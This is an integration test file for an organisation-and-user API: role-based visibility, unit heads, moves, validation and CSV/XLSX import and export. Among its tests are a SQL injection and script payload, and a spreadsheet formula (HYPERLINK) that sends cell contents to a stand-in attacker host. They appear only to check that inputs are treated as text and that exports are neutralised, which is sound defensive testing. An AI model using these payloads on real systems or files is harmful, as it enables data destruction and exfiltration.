import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { buildOrganisation, createUnits, PASSWORD, PEOPLE, signIn, TREE, type Organisation, type PersonKey } from './factories/organisation.factory';
import { eventually } from './helpers/eventually';
import { startTestStack, type TestStack } from './helpers/test-stack';

/** Units and users through the real API: the tree, scope per role, heads, moves, conflicts, imports and exports. */
describe('Organisation', () => {
  let stack: TestStack;
  let org: Organisation;
  const auth = (token: string) => ({ Authorization: `Bearer ${token}` });

  beforeAll(async () => {
    stack = await startTestStack();
    org = await buildOrganisation(stack);
  });

  afterAll(() => stack.close());

  async function visibleUnitCodes(who: PersonKey): Promise<string[]> {
    const res = await stack.http().get('/api/units?pageSize=200').set(auth(org.tokens[who])).expect(200);
    return (res.body.items as { code: string }[]).map((u) => u.code).sort();
  }

  async function visibleUserEmails(who: PersonKey): Promise<string[]> {
    const res = await stack.http().get('/api/users?pageSize=200').set(auth(org.tokens[who])).expect(200);
    return (res.body.items as { email: string }[]).map((u) => u.email).sort();
  }

  describe('each role sees exactly its scope', () => {
    const all = TREE.map((u) => u.code).sort();
    it.each<[PersonKey, string[]]>([
      ['officerCommune', ['HN-X001']],
      ['headCommune', ['HN-X001']],
      ['headHanoi', ['HN', 'HN-SKHCN', 'HN-X001']],
      ['leaderHanoi', ['HN', 'HN-SKHCN', 'HN-X001']],
      ['officerHaiphong', ['HP-X001']],
      ['leaderCentral', all],
      ['auditor', all],
      ['admin2', all],
    ])('%s sees units %j', async (who, codes) => {
      expect(await visibleUnitCodes(who)).toEqual(codes);
    });

    it('users follow the same scope; people without a unit are seen only by administrators and auditors', async () => {
      expect(await visibleUserEmails('officerCommune')).toEqual([PEOPLE.headCommune.email, PEOPLE.officerCommune.email].sort());
      expect(await visibleUserEmails('headHanoi')).toEqual(
        [PEOPLE.headHanoi.email, PEOPLE.leaderHanoi.email, PEOPLE.headCommune.email, PEOPLE.officerCommune.email].sort(),
      );
      const everyone = await visibleUserEmails('auditor');
      expect(everyone).toEqual(expect.arrayContaining([PEOPLE.admin2.email, PEOPLE.auditor.email, PEOPLE.officerHaiphong.email]));
      const total = (await stack.http().get('/api/users?pageSize=1').set(auth(org.tokens.officerCommune)).expect(200)).body.total;
      expect(total).toBe(2); // counts are scoped too
    });

    it('a subject outside the scope is 404, inside is 200', async () => {
      await stack.http().get(`/api/units/${org.unitIds['HP-X001']}`).set(auth(org.tokens.headHanoi)).expect(404);
      await stack.http().get(`/api/users/${org.userIds.officerHaiphong}`).set(auth(org.tokens.leaderHanoi)).expect(404);
      const unit = await stack.http().get(`/api/units/${org.unitIds['HN-X001']}`).set(auth(org.tokens.headHanoi)).expect(200);
      expect(unit.body).toMatchObject({ code: 'HN-X001', level: 'commune', head: { email: PEOPLE.headCommune.email } });
      expect((unit.body.ancestors as { code: string }[]).map((a) => a.code)).toEqual(['BCD', 'HN']);
      await stack.http().get(`/api/users/${org.userIds.officerCommune}`).set(auth(org.tokens.headHanoi)).expect(200);
    });

    it('a filter the client removes is not a way out: ?withinId of another subtree returns nothing', async () => {
      const res = await stack.http().get(`/api/units?withinId=${org.unitIds.HP}`).set(auth(org.tokens.headHanoi)).expect(200);
      expect(res.body.total).toBe(0);
    });

    it('exports are scoped', async () => {
      const res = await stack.http().get('/api/units/export?format=csv').set(auth(org.tokens.officerCommune)).expect(200);
      expect(res.headers['content-type']).toContain('text/csv');
      const lines = res.text.replace(/^\uFEFF/, '').trim().split(/\r?\n/);
      expect(lines[0]).toBe('code,name_vi,name_en,level,parent_code,active');
      expect(lines.slice(1).map((l) => l.split(',')[0])).toEqual(['HN-X001']);
    });

    it('reports effective roles: a head is HEAD while they head their unit', async () => {
      const me = await stack.http().get('/api/auth/me').set(auth(org.tokens.headHanoi)).expect(200);
      expect(me.body).toMatchObject({ email: PEOPLE.headHanoi.email, roles: ['HEAD'], unit: { code: 'HN' } });
    });
  });

  describe('heads', () => {
    it('refuses a second head for a unit (409 naming the current head)', async () => {
      const res = await stack
        .http()
        .post('/api/users')
        .set(auth(org.adminToken))
        .send({ email: 'second.head@hanoi.gov.vn', name: 'Người thứ hai', unitId: org.unitIds.HN, roles: ['HEAD'] })
        .expect(409);
      expect(res.body.message).toContain(PEOPLE.headHanoi.name);
      expect(res.body.details).toMatchObject({ rule: 'oneHeadPerUnit' });
      await stack.http().get('/api/users?q=second.head').set(auth(org.adminToken)).expect(200).expect((r) => expect(r.body.total).toBe(0));
    });

    it('changes the head of a unit, and the old head loses HEAD', async () => {
      await stack.http().patch(`/api/units/${org.unitIds.HN}`).set(auth(org.adminToken)).send({ headUserId: org.userIds.leaderHanoi }).expect(200);
      const leader = await stack.http().get('/api/auth/me').set(auth(org.tokens.leaderHanoi)).expect(200);
      expect(leader.body.roles).toEqual(['HEAD', 'LEADER']);
      const formerHead = await stack.http().get(`/api/users/${org.userIds.headHanoi}`).set(auth(org.adminToken)).expect(200);
      expect(formerHead.body.roles).toEqual([]);
      // and back
      await stack.http().patch(`/api/units/${org.unitIds.HN}`).set(auth(org.adminToken)).send({ headUserId: org.userIds.headHanoi }).expect(200);
      expect(await visibleUnitCodes('headHanoi')).toEqual(['HN', 'HN-SKHCN', 'HN-X001']);
    });

    it('refuses a head from another unit (400 naming the field)', async () => {
      const res = await stack.http().patch(`/api/units/${org.unitIds.HN}`).set(auth(org.adminToken)).send({ headUserId: org.userIds.officerHaiphong }).expect(400);
      expect(res.body.errors).toEqual([{ field: 'headUserId', rule: 'memberOfUnit', message: 'người đứng đầu phải là người dùng đang hoạt động của chính đơn vị này' }]);
    });

    it('a user moved to another unit stops being head of the old one', async () => {
      const created = await stack
        .http()
        .post('/api/users')
        .set(auth(org.adminToken))
        .send({ email: 'truong.phong@hanoi.gov.vn', name: 'Trưởng phòng', unitId: org.unitIds['HN-SKHCN'], roles: ['HEAD', 'OFFICER'], sendInvitation: false })
        .expect(201);
      expect(created.body.roles).toEqual(['HEAD', 'OFFICER']);
      const moved = await stack.http().patch(`/api/users/${created.body.id}`).set(auth(org.adminToken)).send({ unitId: org.unitIds['BKHCN-VP'], roles: ['OFFICER'] }).expect(200);
      expect(moved.body).toMatchObject({ roles: ['OFFICER'], unit: { code: 'BKHCN-VP' } });
      const unit = await stack.http().get(`/api/units/${org.unitIds['HN-SKHCN']}`).set(auth(org.adminToken)).expect(200);
      expect(unit.body.head).toBeNull();
    });
  });

  describe('moving and deleting units', () => {
    it('moves a unit with its subtree; scope follows at once', async () => {
      await stack.http().patch(`/api/units/${org.unitIds['HN-X001']}`).set(auth(org.adminToken)).send({ parentId: org.unitIds.HP }).expect(200);
      expect(await visibleUnitCodes('headHanoi')).toEqual(['HN', 'HN-SKHCN']);
      const unit = await stack.http().get(`/api/units/${org.unitIds['HN-X001']}`).set(auth(org.adminToken)).expect(200);
      expect((unit.body.ancestors as { code: string }[]).map((a) => a.code)).toEqual(['BCD', 'HP']);
      await stack.http().patch(`/api/units/${org.unitIds['HN-X001']}`).set(auth(org.adminToken)).send({ parentId: org.unitIds.HN }).expect(200);
      expect(await visibleUnitCodes('headHanoi')).toEqual(['HN', 'HN-SKHCN', 'HN-X001']);
    });

    it('refuses to move a unit under its own sub-unit', async () => {
      const res = await stack.http().patch(`/api/units/${org.unitIds.HN}`).set(auth(org.adminToken)).send({ parentId: org.unitIds['HN-X001'] }).expect(400);
      expect(res.body.errors).toEqual([{ field: 'parentId', rule: 'noCycle', message: 'không thể chuyển một đơn vị vào chính nó hoặc đơn vị trực thuộc của nó' }]);
    });

    it('refuses to delete a unit with sub-units or users (409 with the reason), deletes a bare one', async () => {
      const withChildren = await stack.http().delete(`/api/units/${org.unitIds.HN}`).set(auth(org.adminToken)).expect(409);
      expect(withChildren.body.message).toBe('Xung đột dữ liệu: đơn vị HN còn 2 đơn vị trực thuộc; hãy chuyển hoặc xoá chúng trước, hoặc ngừng hoạt động đơn vị.');
      const withUsers = await stack.http().delete(`/api/units/${org.unitIds['HP-X001']}`).set(auth(org.adminToken)).set('Accept-Language', 'en').expect(409);
      expect(withUsers.body.details).toMatchObject({ rule: 'hasUsers', users: 1 });
      const { TMP } = await createUnits(stack, org.adminToken, [{ code: 'TMP', nameVi: 'Tạm', level: 'other', parent: 'BCD' }], { ...org.unitIds });
      await stack.http().delete(`/api/units/${TMP}`).set(auth(org.adminToken)).expect(204);
      await stack.http().get(`/api/units/${TMP}`).set(auth(org.adminToken)).expect(404);
    });

    it('deactivates instead; an inactive unit takes no new sub-units', async () => {
      await stack.http().patch(`/api/units/${org.unitIds['BKHCN-VP']}`).set(auth(org.adminToken)).send({ active: false }).expect(200);
      const res = await stack.http().post('/api/units').set(auth(org.adminToken)).send({ code: 'BKHCN-VP-1', nameVi: 'Phòng', level: 'department', parentId: org.unitIds['BKHCN-VP'] }).expect(400);
      expect(res.body.errors[0]).toMatchObject({ field: 'parentId', rule: 'active' });
      await stack.http().patch(`/api/units/${org.unitIds['BKHCN-VP']}`).set(auth(org.adminToken)).send({ active: true }).expect(200);
    });
  });

  describe('conflicts and bad input', () => {
    it('refuses a duplicate unit code, whatever its case', async () => {
      const res = await stack.http().post('/api/units').set(auth(org.adminToken)).send({ code: 'hn', nameVi: 'Trùng', level: 'province' }).expect(409);
      expect(res.body).toMatchObject({ code: 'CONFLICT', message: 'Xung đột dữ liệu: mã đơn vị HN đã tồn tại.', details: { field: 'code' } });
    });

    it('refuses a duplicate email, whatever its case', async () => {
      const res = await stack.http().post('/api/users').set(auth(org.adminToken)).send({ email: 'CAN.BO@MinhChau.Hanoi.gov.vn', name: 'X', unitId: org.unitIds.HN, roles: ['OFFICER'] }).expect(409);
      expect(res.body.details).toMatchObject({ field: 'email' });
    });

    it('names every invalid field of a unit', async () => {
      const res = await stack
        .http()
        .post('/api/units')
        .set(auth(org.adminToken))
        .send({ code: 'bad code!', level: 'village', parentId: 'nope', extra: 1 })
        .expect(400);
      expect(res.body.errors).toEqual(
        expect.arrayContaining([
          { field: 'code', rule: 'matches', message: 'code có định dạng không hợp lệ' },
          { field: 'nameVi', rule: 'isDefined', message: 'nameVi là bắt buộc' },
          { field: 'level', rule: 'isIn', message: 'level phải là một trong: central, ministry, province, commune, department, other' },
          { field: 'parentId', rule: 'isUuid', message: 'parentId phải là UUID hợp lệ' },
          { field: 'extra', rule: 'whitelistValidation', message: 'trường extra không được phép' },
        ]),
      );
    });

    it('names every invalid field of a user, including a unit the role needs', async () => {
      const res = await stack.http().post('/api/users').set(auth(org.adminToken)).send({ email: 'x', name: '', roles: ['KING'], phone: 'abc' }).expect(400);
      const fields = (res.body.errors as { field: string }[]).map((e) => e.field).sort();
      expect(fields).toEqual(['email', 'name', 'phone', 'roles']);
      const noUnit = await stack.http().post('/api/users').set(auth(org.adminToken)).send({ email: 'x@y.vn', name: 'X', roles: ['OFFICER'] }).expect(400);
      expect(noUnit.body.errors).toEqual([{ field: 'unitId', rule: 'requiredForRole', message: 'unitId là bắt buộc với vai trò OFFICER' }]);
    });

    it('treats SQL and script in strings as plain text', async () => {
      const name = `'); DROP TABLE units; -- <script>alert(1)</script>`;
      const res = await stack.http().post('/api/units').set(auth(org.adminToken)).send({ code: 'SAFE-1', nameVi: name, level: 'other' }).expect(201);
      expect(res.body.nameVi).toBe(name);
      await stack.http().get('/api/units?q=%27%29%3B%20DROP').set(auth(org.adminToken)).expect(200).expect((r) => expect(r.body.total).toBe(1));
    });

    it('an administrator cannot deactivate themselves or drop their own ADMIN role', async () => {
      const me = await stack.http().get('/api/auth/me').set(auth(org.tokens.admin2)).expect(200);
      await stack.http().patch(`/api/users/${me.body.id}`).set(auth(org.tokens.admin2)).send({ active: false }).expect(409);
      await stack.http().patch(`/api/users/${me.body.id}`).set(auth(org.tokens.admin2)).send({ roles: ['AUDITOR'] }).expect(409);
    });

    it('a deactivated user is signed out at once', async () => {
      const token = await signIn(stack, PEOPLE.officerHaiphong.email);
      await stack.http().patch(`/api/users/${org.userIds.officerHaiphong}`).set(auth(org.adminToken)).send({ active: false }).expect(200);
      await stack.http().get('/api/auth/me').set(auth(token)).expect(401);
      await stack.http().post('/api/auth/login').send({ email: PEOPLE.officerHaiphong.email, password: PASSWORD }).expect(401);
      await stack.http().patch(`/api/users/${org.userIds.officerHaiphong}`).set(auth(org.adminToken)).send({ active: true }).expect(200);
      org.tokens.officerHaiphong = await signIn(stack, PEOPLE.officerHaiphong.email);
    });
  });

  describe('the unit directory (anyone looks up any active unit)', () => {
    type Entry = { id: string; code: string; nameVi: string; nameEn: string | null; level: string; parentNameVi: string | null; parentNameEn: string | null };
    const lookUp = async (q: string, who: PersonKey = 'officerCommune'): Promise<Entry[]> =>
      (await stack.http().get('/api/units/directory').query({ q }).set(auth(org.tokens[who])).expect(200)).body as Entry[];

    it('a commune officer finds a ministry outside their scope by code and by part of its name, and only what identifies it', async () => {
      const [byCode] = await lookUp('bkhcn');
      expect(byCode).toEqual({ id: org.unitIds.BKHCN, code: 'BKHCN', nameVi: 'Bộ Khoa học và Công nghệ', nameEn: null, level: 'ministry', parentNameVi: 'Ban Chỉ đạo Trung ương', parentNameEn: null });
      expect((await lookUp('khoa học và')).map((u) => u.code)).toEqual(['BKHCN', 'HN-SKHCN']);
      expect((await lookUp('bkhcn')).map((u) => u.code)).toEqual(['BKHCN', 'BKHCN-VP']); // the exact code first
    });

    it('leaves out inactive units and stops at the limit', async () => {
      const created = await stack.http().post('/api/units').set(auth(org.adminToken)).send({ code: 'DIR-OLD', nameVi: 'Đơn vị đã giải thể', level: 'other', parentId: org.unitIds.BCD }).expect(201);
      expect((await lookUp('giải thể')).map((u) => u.code)).toEqual(['DIR-OLD']);
      await stack.http().patch(`/api/units/${created.body.id}`).set(auth(org.adminToken)).send({ active: false }).expect(200);
      expect(await lookUp('giải thể')).toEqual([]);
      const limited = await stack.http().get('/api/units/directory?q=h&limit=2').set(auth(org.tokens.officerHaiphong)).expect(200);
      expect(limited.body).toHaveLength(2);
    });

    it('refuses a missing, empty, too long or control-character q and a limit outside 1–50 (400 naming the field)', async () => {
      const get = (query: Record<string, string>) => stack.http().get('/api/units/directory').query(query).set(auth(org.tokens.officerCommune)).expect(400);
      expect((await get({})).body.errors).toEqual([{ field: 'q', rule: 'isDefined', message: 'q là bắt buộc' }]);
      expect((await get({ q: '  ' })).body.errors).toEqual([{ field: 'q', rule: 'minLength', message: 'q phải có ít nhất 1 ký tự' }]);
      expect((await get({ q: 'x'.repeat(101) })).body.errors).toEqual([{ field: 'q', rule: 'maxLength', message: 'q không được dài quá 100 ký tự' }]);
      expect((await get({ q: 'a\u0001b' })).body.errors).toEqual([{ field: 'q', rule: 'noControlCharacters', message: 'q không được chứa ký tự điều khiển (như NUL)' }]);
      expect((await get({ q: 'HN', limit: '51' })).body.errors).toEqual([{ field: 'limit', rule: 'max', message: 'limit không được lớn hơn 50' }]);
    });
  });

  describe('import and export', () => {
    /** 34 provinces and ~3,300 communes under the central unit, as an XLSX file. */
    async function nationalFile(): Promise<{ buffer: Buffer; communes: number }> {
      const workbook = new ExcelJS.Workbook();
      const sheet = workbook.addWorksheet('units');
      sheet.addRow(['code', 'name_vi', 'name_en', 'level', 'parent_code', 'active']);
      let communes = 0;
      for (let p = 1; p <= 34; p++) {
        const province = `T${String(p).padStart(2, '0')}`;
        sheet.addRow([province, `Tỉnh số ${p}`, `Province ${p}`, 'province', 'BCD', 'có']);
        for (let c = 1; c <= 97; c++) {
          sheet.addRow([`${province}-X${String(c).padStart(3, '0')}`, `Xã ${c} tỉnh ${p}`, '', 'commune', province, '']);
          communes++;
        }
      }
      return { buffer: Buffer.from(await workbook.xlsx.writeBuffer()), communes };
    }

    it('imports provinces and communes from XLSX, then a second import changes nothing', async () => {
      const { buffer, communes } = await nationalFile();
      const dry = await stack.http().post('/api/units/import?dryRun=true').set(auth(org.adminToken)).attach('file', buffer, 'don-vi.xlsx').expect(200);
      expect(dry.body).toEqual({ rows: 34 + communes, created: 34 + communes, updated: 0, unchanged: 0, dryRun: true });
      await stack.http().get('/api/units?level=commune&pageSize=1').set(auth(org.adminToken)).expect((r) => expect(r.body.total).toBe(2));

      const res = await stack.http().post('/api/units/import').set(auth(org.adminToken)).attach('file', buffer, 'don-vi.xlsx').expect(200);
      expect(res.body).toEqual({ rows: 34 + communes, created: 34 + communes, updated: 0, unchanged: 0, dryRun: false });
      const listed = await stack.http().get('/api/units?level=commune&pageSize=1').set(auth(org.adminToken)).expect(200);
      expect(listed.body.total).toBe(communes + 2);
      const search = await stack.http().get('/api/units?q=T07-X042').set(auth(org.adminToken)).expect(200);
      const commune = await stack.http().get(`/api/units/${search.body.items[0].id}`).set(auth(org.adminToken)).expect(200);
      expect((commune.body.ancestors as { code: string }[]).map((a) => a.code)).toEqual(['BCD', 'T07']);

      const again = await stack.http().post('/api/units/import').set(auth(org.adminToken)).attach('file', buffer, 'don-vi.xlsx').expect(200);
      expect(again.body).toMatchObject({ created: 0, updated: 0, unchanged: 34 + communes });
    });

    it('imports nothing when any row is wrong, and names each row and column', async () => {
      const csv = [
        'code,name_vi,name_en,level,parent_code,active',
        'NEW-1,Đơn vị mới,,province,BCD,',
        'NEW-2,,,commune,NEW-1,',
        'NEW-3,Xã lạ,,village,NOWHERE,maybe',
        'NEW-1,Trùng,,commune,BCD,',
        'LOOP-A,Vòng A,,other,LOOP-B,',
        'LOOP-B,Vòng B,,other,LOOP-A,',
      ].join('\n');
      const before = (await stack.http().get('/api/units?pageSize=1').set(auth(org.adminToken))).body.total as number;
      const res = await stack.http().post('/api/units/import').set(auth(org.adminToken)).attach('file', Buffer.from(csv), 'units.csv').expect(400);
      expect(res.body.errors).toEqual(
        expect.arrayContaining([
          { row: 3, field: 'name_vi', rule: 'isNotEmpty', message: 'name_vi là bắt buộc' },
          { row: 4, field: 'level', rule: 'isIn', message: 'level phải là một trong: central, ministry, province, commune, department, other' },
          { row: 4, field: 'active', rule: 'isBoolean', message: 'active phải là true/false (có/không)' },
          { row: 4, field: 'parent_code', rule: 'exists', message: 'không có đơn vị mã NOWHERE trong tệp hoặc trong hệ thống' },
          { row: 5, field: 'code', rule: 'uniqueInFile', message: 'mã NEW-1 lặp lại ở dòng 2' },
          expect.objectContaining({ row: 6, field: 'parent_code', rule: 'noCycle' }),
        ]),
      );
      const after = (await stack.http().get('/api/units?pageSize=1').set(auth(org.adminToken))).body.total as number;
      expect(after).toBe(before);
    });

    it('refuses a file without the required columns, or not CSV/XLSX', async () => {
      const missing = await stack.http().post('/api/units/import').set(auth(org.adminToken)).attach('file', Buffer.from('code,name\nA,B\n'), 'u.csv').expect(400);
      expect(missing.body.errors[0]).toMatchObject({ field: 'file', rule: 'columns' });
      await stack.http().post('/api/units/import').set(auth(org.adminToken)).attach('file', Buffer.from('%PDF'), 'u.pdf').expect(400);
      const none = await stack.http().post('/api/units/import').set(auth(org.adminToken)).expect(400);
      expect(none.body.errors[0]).toMatchObject({ field: 'file', rule: 'isDefined' });
    });

    it('round-trips: an export imports back unchanged', async () => {
      const exported = await stack.http().get('/api/units/export?format=xlsx').set(auth(org.adminToken)).buffer(true).parse((res, cb) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => cb(null, Buffer.concat(chunks)));
      }).expect(200);
      const res = await stack.http().post('/api/units/import').set(auth(org.adminToken)).attach('file', exported.body as Buffer, 'export.xlsx').expect(200);
      expect(res.body.created).toBe(0);
      expect(res.body.updated).toBe(0);
    });

    it('neutralises text a spreadsheet would run as a formula in CSV exports; the export imports back unchanged', async () => {
      const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Xem chi tiết")';
      const created = await stack.http().post('/api/units').set(auth(org.adminToken)).send({ code: 'CSV-INJ', nameVi: formula, nameEn: '-1+1', level: 'other', parentId: org.unitIds.BCD }).expect(201);
      const unitId = created.body.id as string;
      await stack.http().post('/api/users').set(auth(org.adminToken)).send({ email: 'csv.inj@x.vn', name: '@SUM(1+1)', phone: '+84 912 345 678', roles: ['OFFICER'], unitId }).expect(201);

      const exported = async (path: string, key: string, value: string) => {
        const text = (await stack.http().get(`${path}?format=csv`).set(auth(org.adminToken)).expect(200)).text.replace(/^\uFEFF/, '');
        const [header, ...lines] = text.trimEnd().split(/\r?\n/);
        const line = lines.find((l) => l.startsWith(`${value},`))!;
        const record = parse<Record<string, string>>(`${header}\n${line}`, { columns: true });
        expect(record[0][key]).toBe(value);
        return { file: Buffer.from(`${header}\n${line}\n`), cells: record[0] };
      };
      const units = await exported('/api/units/export', 'code', 'CSV-INJ');
      expect(units.cells).toMatchObject({ name_vi: `'${formula}`, name_en: "'-1+1", parent_code: 'BCD' });
      const users = await exported('/api/users/export', 'email', 'csv.inj@x.vn');
      expect(users.cells).toMatchObject({ name: "'@SUM(1+1)", phone: "'+84 912 345 678", unit_code: 'CSV-INJ' });

      const unitsBack = await stack.http().post('/api/units/import').set(auth(org.adminToken)).attach('file', units.file, 'units.csv').expect(200);
      expect(unitsBack.body).toMatchObject({ rows: 1, created: 0, updated: 0, unchanged: 1 });
      const usersBack = await stack.http().post('/api/users/import').set(auth(org.adminToken)).attach('file', users.file, 'users.csv').expect(200);
      expect(usersBack.body).toMatchObject({ rows: 1, created: 0, updated: 0, unchanged: 1 });
      const unitNow = await stack.http().get(`/api/units/${unitId}`).set(auth(org.adminToken)).expect(200);
      expect(unitNow.body).toMatchObject({ nameVi: formula, nameEn: '-1+1' });
    });

    it('imports users all-or-nothing, then invites the new ones by email', async () => {
      const bad = ['email,name,phone,language,unit_code,roles,active', 'a@x.vn,A,,vi,T01-X001,OFFICER,', 'b@x.vn,B,,vi,HN,HEAD,', 'a@x.vn,A2,,xx,NOPE,KING,'].join('\n');
      const res = await stack.http().post('/api/users/import').set(auth(org.adminToken)).attach('file', Buffer.from(bad), 'users.csv').expect(400);
      expect(res.body.errors).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ row: 3, field: 'roles', rule: 'oneHeadPerUnit' }),
          { row: 4, field: 'email', rule: 'uniqueInFile', message: 'email lặp lại ở dòng 2' },
          { row: 4, field: 'language', rule: 'isIn', message: 'language phải là vi hoặc en' },
          { row: 4, field: 'unit_code', rule: 'exists', message: 'không có đơn vị mã NOPE' },
          expect.objectContaining({ row: 4, field: 'roles', rule: 'isEnum' }),
        ]),
      );
      await stack.http().get('/api/users?q=a@x.vn').set(auth(org.adminToken)).expect((r) => expect(r.body.total).toBe(0));

      const good = ['email;name;phone;language;unit_code;roles;active', 'ct.t01x001@x.vn;Chủ tịch xã 1;;vi;T01-X001;HEAD;', 'cb.t01x001@x.vn;Cán bộ xã 1;0912 345 678;en;T01-X001;OFFICER;'].join('\n');
      const ok = await stack.http().post('/api/users/import').set(auth(org.adminToken)).attach('file', Buffer.from(good), 'users.csv').expect(200);
      expect(ok.body).toMatchObject({ rows: 2, created: 2, updated: 0, invitationsQueued: 2 });
      const [invite] = await stack.mail.waitFor((m) => m.envelopeTo.includes('cb.t01x001@x.vn'));
      expect(invite.subject).toBe('[dondoc] You are invited to the task accountability system');
      const commune = await stack.http().get('/api/units?q=T01-X001').set(auth(org.adminToken)).expect(200);
      expect(commune.body.items[0].head).toMatchObject({ email: 'ct.t01x001@x.vn' });
    });

    it('swaps the heads of two units in one import', async () => {
      const importUsers = (lines: string[]) => stack.http().post('/api/users/import').set(auth(org.adminToken)).attach('file', Buffer.from(lines.join('\n')), 'heads.csv');
      const headOf = async (code: string) => ((await stack.http().get(`/api/units?q=${code}`).set(auth(org.adminToken)).expect(200)).body.items[0].head as { email: string }).email;
      await importUsers(['email,name,unit_code,roles', 'ct.t01x002@x.vn,Chủ tịch xã 2,T01-X002,HEAD']).expect(200);
      const swap = await importUsers(['email,name,unit_code,roles', 'ct.t01x001@x.vn,Chủ tịch xã 1,T01-X002,HEAD', 'ct.t01x002@x.vn,Chủ tịch xã 2,T01-X001,HEAD']).expect(200);
      expect(swap.body).toMatchObject({ created: 0, updated: 2 });
      expect([await headOf('T01-X001'), await headOf('T01-X002')]).toEqual(['ct.t01x002@x.vn', 'ct.t01x001@x.vn']);
    });

    it('refuses, as the API does, a head who is inactive and a user joining an inactive unit', async () => {
      await stack.http().post('/api/units').set(auth(org.adminToken)).send({ code: 'T01-CLOSED', nameVi: 'Xã đã sáp nhập', level: 'commune', parentId: org.unitIds.HN }).expect(201);
      const closed = (await stack.http().get('/api/units?q=T01-CLOSED').set(auth(org.adminToken)).expect(200)).body.items[0] as { id: string };
      await stack.http().patch(`/api/units/${closed.id}`).set(auth(org.adminToken)).send({ active: false }).expect(200);
      const file = ['email,name,unit_code,roles,active', 'ct.t01x003@x.vn,Chủ tịch xã 3,T01-X003,HEAD,false', 'cb.closed@x.vn,Cán bộ,T01-CLOSED,OFFICER,'].join('\n');
      const res = await stack.http().post('/api/users/import?lang=en').set(auth(org.adminToken)).attach('file', Buffer.from(file), 'users.csv').expect(400);
      expect(res.body.errors).toEqual([
        { row: 2, field: 'active', rule: 'activeHead', message: 'a head must be an active user' },
        { row: 3, field: 'unit_code', rule: 'active', message: 'unit T01-CLOSED is inactive' },
      ]);
      await stack.http().get('/api/users?q=t01x003').set(auth(org.adminToken)).expect((r) => expect(r.body.total).toBe(0));
    });

    it('new users invited in bulk are all delivered (by the worker’s sweeper when many)', async () => {
      const rows = ['email,name,unit_code,roles'];
      for (let i = 1; i <= 60; i++) rows.push(`bulk${i}@t02.gov.vn,Cán bộ ${i},T02-X${String(i).padStart(3, '0')},OFFICER`);
      const res = await stack.http().post('/api/users/import').set(auth(org.adminToken)).attach('file', Buffer.from(rows.join('\n')), 'bulk.csv').expect(200);
      expect(res.body.invitationsQueued).toBe(60);
      await eventually(() => expect(stack.mail.all().filter((m) => m.envelopeTo[0]?.endsWith('@t02.gov.vn')).length).toBe(60), 60_000, 500);
    });
  });
});
